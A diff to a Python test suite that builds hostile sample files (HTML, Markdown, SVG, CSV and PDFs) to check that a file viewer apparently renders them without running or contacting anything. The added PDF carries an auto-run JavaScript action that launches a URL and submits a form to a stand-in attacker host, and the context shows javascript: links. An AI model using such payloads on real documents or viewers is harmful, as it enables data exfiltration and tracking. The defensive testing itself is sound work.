@@ -48,12 +48,22 @@ links = f"![x]({evil}/md.png) [x](javascript:{js}) <{evil}/auto>"
 )
 (folder / "rows.csv").write_text('name\n"' + markup.replace('"', '""') + '"\n')
 (folder / "document.pdf").write_bytes(b"%PDF-1.4 " + markup.encode())
+objects = [
+    "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 5 0 R >> >>",
+    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+    f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Annots [6 0 R] /AA << /O 5 0 R >> >>",
+    "<< /Length 14 >>\nstream\n9 9 99 99 re f\nendstream",
+    f"<< /S /JavaScript /JS (app.launchURL('{evil}/launch', true); app.alert(1); this.submitForm('{evil}/form')) >>",
+    f"<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI ({evil}/uri) >> >>",
+]
+body = "\n".join(f"{n} 0 obj\n{one}\nendobj" for n, one in enumerate(objects, 1))
+(folder / "drawn.pdf").write_text(f"%PDF-1.7\n{body}\ntrailer\n<< /Root 1 0 R /Size 7 >>\n%%EOF\n")
 drumbeat.log(
     step=1, said=drumbeat.Text(markup), rows=drumbeat.Table([markup], [[markup]]),
     samples=[drumbeat.Image(png(bytes(12), 2, 2, 3), caption=markup)],
 )
 """
-FILES = ["page.html", "wide.html", "notes.md", "picture.svg", "rows.csv", "document.pdf"]
+FILES = ["page.html", "wide.html", "notes.md", "picture.svg", "rows.csv", "document.pdf", "drawn.pdf"]
 
 
 @contextmanager
@@ -105,4 +115,5 @@ def test_files_of_a_hostile_job_run_nothing_and_reach_nobody(own_house: House):
     assert "harmless text" in shown["page.html"]
     assert "harmless text" in shown["notes.md"]
     assert "<!doctype html>" in shown["rows.csv"]
-    assert "download it" in shown["document.pdf"]
+    assert "can't be read as PDF: download it" in shown["document.pdf"]
+    assert "1 page;" in shown["drawn.pdf"]
